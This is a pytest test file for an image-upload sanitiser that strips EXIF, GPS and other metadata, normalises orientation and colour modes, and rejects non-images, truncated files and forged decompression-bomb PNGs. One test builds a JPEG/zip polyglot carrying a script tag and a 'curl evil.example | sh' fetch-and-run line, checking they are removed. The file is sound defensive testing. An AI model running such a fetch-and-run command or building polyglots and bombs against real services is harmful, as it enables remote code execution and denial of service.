"""clean_photo: only pixels survive, upright and bounded; everything else is refused by name."""

from __future__ import annotations

import io
import random
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from PIL import ExifTags, Image, ImageCms, ImageFile
from PIL.PngImagePlugin import PngInfo

from app.media import MAX_PIXELS, MAX_SIDE, MAX_UPLOAD_BYTES, CleanPhoto, PhotoRejected, clean_photo

MODEL = "Stalkercam X9 serial 0451-77"
DESCRIPTION = "Ola Nordmann i Storgata 12, Tromsø"
COMMENT = b"taken outside Ola's school"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description about="Kari Hansen"/></x:xmpmeta>'


def _picture(width: int, height: int) -> Image.Image:
    """A deterministic RGB picture with detail in every channel."""
    red = Image.linear_gradient("L").resize((width, height))
    green = Image.radial_gradient("L").resize((width, height))
    blue = red.transpose(Image.Transpose.FLIP_TOP_BOTTOM)
    return Image.merge("RGB", (red, green, blue))


def _encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def _reopen(photo: CleanPhoto) -> Image.Image:
    """Open the result, checking what every result must be: a baseline RGB JPEG of the said size."""
    image = Image.open(io.BytesIO(photo.data))
    assert image.format == "JPEG"
    assert image.mode == "RGB"
    assert photo.media_type == "image/jpeg"
    assert image.size == (photo.width, photo.height)
    assert "progressive" not in image.info
    assert "progression" not in image.info
    return image


def _gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = MODEL
    exif[ExifTags.Base.ImageDescription] = DESCRIPTION
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (69.0, 38.0, 58.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (18.0, 57.0, 21.0),
    }
    return exif


def _png_with_size(width: int, height: int) -> bytes:
    """A real 1x1 PNG whose IHDR claims another size (with a valid CRC): a decompression bomb."""
    data = bytearray(_encode(Image.new("RGB", (1, 1), "red"), "PNG"))
    assert data[12:16] == b"IHDR"
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    return bytes(data)


def test_jpeg_metadata_is_gone() -> None:
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    upload = _encode(
        _picture(64, 48), "JPEG", exif=_gps_exif(), comment=COMMENT, icc_profile=icc, xmp=XMP
    )
    # The upload really carries everything we mean to strip.
    original = Image.open(io.BytesIO(upload))
    assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] == "N"
    assert {"exif", "icc_profile", "comment", "xmp"} <= original.info.keys()
    assert MODEL.encode() in upload

    photo = clean_photo(upload)

    image = _reopen(photo)
    assert not {"exif", "icc_profile", "comment", "xmp"} & image.info.keys()
    assert len(image.getexif()) == 0
    for leak in (MODEL.encode(), DESCRIPTION.encode(), COMMENT, b"Exif", b"GPS", b"ICC_PROFILE"):
        assert leak not in photo.data
    assert b"Kari Hansen" not in photo.data
    assert b"http://ns.adobe.com/xap" not in photo.data


def test_png_text_chunks_and_exif_are_gone() -> None:
    text = PngInfo()
    text.add_text("Author", "Kari Hansen")
    text.add_itxt("Location", "Storgata 12, 9008 Tromsø", zip=False)
    text.add_text("Comment", "Ola Nordmann, født 2019", zip=True)
    upload = _encode(_picture(64, 48), "PNG", pnginfo=text, exif=_gps_exif())
    assert b"Kari Hansen" in upload
    assert b"Storgata 12" in upload

    photo = clean_photo(upload)

    _reopen(photo)
    for leak in (b"Kari Hansen", b"Storgata", "Tromsø".encode(), b"Ola Nordmann", MODEL.encode()):
        assert leak not in photo.data
    assert b"Exif" not in photo.data


def test_exif_orientation_is_applied_before_it_is_dropped() -> None:
    # Stored 40x20 lying on its side: left half red, right half blue. Orientation 6 means "turn
    # 90° clockwise to view", which brings the left half to the top.
    image = Image.new("RGB", (40, 20), "blue")
    image.paste("red", (0, 0, 20, 20))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    upload = _encode(image, "JPEG", exif=exif, quality=95)

    photo = clean_photo(upload)

    upright = _reopen(photo)
    assert (photo.width, photo.height) == (20, 40)
    top, bottom = upright.getpixel((10, 8)), upright.getpixel((10, 31))
    assert isinstance(top, tuple)
    assert isinstance(bottom, tuple)
    assert top[0] > 200 and top[2] < 60
    assert bottom[2] > 200 and bottom[0] < 60


def test_large_photo_is_shrunk_to_max_side_keeping_aspect() -> None:
    photo = clean_photo(_encode(_picture(3000, 2000), "JPEG"))

    _reopen(photo)
    assert photo.width == MAX_SIDE == 1024
    assert abs(photo.width / photo.height - 1.5) < 0.005


def test_large_portrait_png_is_shrunk_on_its_longest_side() -> None:
    photo = clean_photo(_encode(_picture(900, 2400), "PNG"), max_side=600)

    assert (photo.width, photo.height) == (225, 600)


def test_small_photo_is_not_enlarged() -> None:
    photo = clean_photo(_encode(_picture(100, 50), "PNG"))

    assert (photo.width, photo.height) == (100, 50)


def _rgba_png() -> bytes:
    image = Image.new("RGBA", (32, 32), (255, 0, 0, 0))  # fully transparent red
    return _encode(image, "PNG")


def _la_png() -> bytes:
    return _encode(Image.new("LA", (32, 32), (0, 0)), "PNG")  # fully transparent black


def _palette_png() -> bytes:
    return _encode(Image.new("RGB", (32, 32), (0, 0, 255)).convert("P"), "PNG")


def _palette_png_with_transparency() -> bytes:
    image = Image.new("P", (32, 32), 1)
    image.putpalette([0, 0, 0, 0, 255, 0])
    return _encode(image, "PNG", transparency=1)  # the green entry is transparent


def _grey16_png() -> bytes:
    return _encode(Image.new("I;16", (32, 32), 40000), "PNG")


def _bilevel_png() -> bytes:
    return _encode(Image.new("1", (32, 32), 1), "PNG")


def _cmyk_jpeg() -> bytes:
    return _encode(Image.new("CMYK", (32, 32), (0, 255, 255, 0)), "JPEG")


@pytest.mark.parametrize(
    ("make", "mode", "colour"),
    [
        (_rgba_png, "RGBA", (255, 255, 255)),  # transparency shows as white, not the hidden red
        (_la_png, "LA", (255, 255, 255)),
        (_palette_png, "P", (0, 0, 255)),
        (_palette_png_with_transparency, "P", (255, 255, 255)),
        (_grey16_png, "I;16", (156, 156, 156)),  # 40000/256, scaled rather than clipped to white
        (_bilevel_png, "1", (255, 255, 255)),
        (_cmyk_jpeg, "CMYK", (255, 0, 0)),
    ],
)
def test_every_mode_becomes_rgb(
    make: Callable[[], bytes], mode: str, colour: tuple[int, int, int]
) -> None:
    upload = make()
    assert Image.open(io.BytesIO(upload)).mode == mode

    image = _reopen(clean_photo(upload))

    pixel = image.getpixel((16, 16))
    assert isinstance(pixel, tuple)
    assert all(abs(got - want) <= 6 for got, want in zip(pixel, colour, strict=True)), pixel


def test_bytes_after_the_image_do_not_survive() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.sh", "curl evil.example | sh")
    script = b"<script>alert(1)</script>"
    upload = _encode(_picture(64, 48), "JPEG") + script + archive.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(upload))  # a working polyglot

    photo = clean_photo(upload)

    _reopen(photo)
    for leak in (script, b"<script", b"PK\x03\x04", b"PK\x05\x06", b"payload.sh", b"evil.example"):
        assert leak not in photo.data


def test_same_input_gives_same_bytes() -> None:
    upload = _encode(_picture(1500, 1000), "JPEG", exif=_gps_exif())

    assert clean_photo(upload) == clean_photo(upload)


def _rejected(data: bytes) -> str:
    with pytest.raises(PhotoRejected) as caught:
        clean_photo(data)
    assert isinstance(caught.value, ValueError)
    assert str(caught.value) == caught.value.code
    return caught.value.code


def test_empty_upload_is_rejected() -> None:
    assert _rejected(b"") == "empty"


def test_oversized_upload_is_rejected_before_decoding() -> None:
    valid = _encode(_picture(64, 48), "JPEG")
    assert _rejected(valid + bytes(MAX_UPLOAD_BYTES + 1 - len(valid))) == "too_big"
    assert _rejected(bytes(11 * 1024 * 1024)) == "too_big"


def test_upload_of_exactly_the_limit_is_not_too_big() -> None:
    valid = _encode(_picture(64, 48), "JPEG")
    padded = valid + bytes(MAX_UPLOAD_BYTES - len(valid))

    assert clean_photo(padded).width == 64


@pytest.mark.parametrize(
    "data",
    [
        random.Random(0).randbytes(4096),
        b"<!DOCTYPE html><html><body><h1>Ola</h1></body></html>",
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
        b"just some text\n",
    ],
    ids=["random", "html", "pdf", "text"],
)
def test_non_images_are_rejected(data: bytes) -> None:
    assert _rejected(data) == "not_an_image"


@pytest.mark.parametrize("fmt", ["GIF", "WEBP", "BMP", "TIFF"])
def test_other_image_formats_are_unsupported(fmt: str) -> None:
    upload = _encode(_picture(32, 32), fmt)
    assert Image.open(io.BytesIO(upload)).format == fmt  # a real image, just not JPEG/PNG

    assert _rejected(upload) == "unsupported_format"


@pytest.mark.parametrize("brand", [b"heic", b"mif1", b"avif"])
def test_heic_and_avif_are_unsupported(brand: bytes) -> None:
    # The ISO base media file header an iPhone's HEIC (or an AVIF) starts with.
    header = struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1heic"

    assert _rejected(header + bytes(200)) == "unsupported_format"


def test_truncated_jpeg_is_damaged() -> None:
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False
    whole = _encode(_picture(400, 300), "JPEG")
    half = whole[: len(whole) // 2]
    assert Image.open(io.BytesIO(half)).size == (400, 300)  # the header alone still reads fine

    assert _rejected(half) == "damaged"


def test_truncated_png_is_damaged() -> None:
    whole = _encode(_picture(400, 300), "PNG")

    assert _rejected(whole[: len(whole) // 2]) == "damaged"


def test_signature_without_an_image_is_damaged() -> None:
    assert _rejected(b"\x89PNG\r\n\x1a\n" + b"garbage" * 20) == "damaged"
    assert _rejected(b"\xff\xd8\xff" + b"garbage" * 20) == "damaged"


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (20_000, 20_000),  # far beyond Pillow's own bomb limit
        (10_000, 10_000),  # where Pillow only warns
        (7_000, 7_000),  # under Pillow's limit, over ours
        (MAX_PIXELS + 1, 1),
    ],
)
def test_decompression_bomb_is_refused_without_decoding(width: int, height: int) -> None:
    bomb = _png_with_size(width, height)
    assert len(bomb) < 100

    started = time.perf_counter()
    code = _rejected(bomb)
    elapsed = time.perf_counter() - started

    assert code == "too_many_pixels"
    assert elapsed < 1.0


def test_image_at_the_pixel_limit_is_not_a_bomb() -> None:
    # Same forged header, but exactly at the limit: it passes the size check and then fails as
    # damaged, because the one real pixel cannot fill the declared area.
    assert MAX_PIXELS == 8_000 * 5_000
    assert _rejected(_png_with_size(8_000, 5_000)) == "damaged"
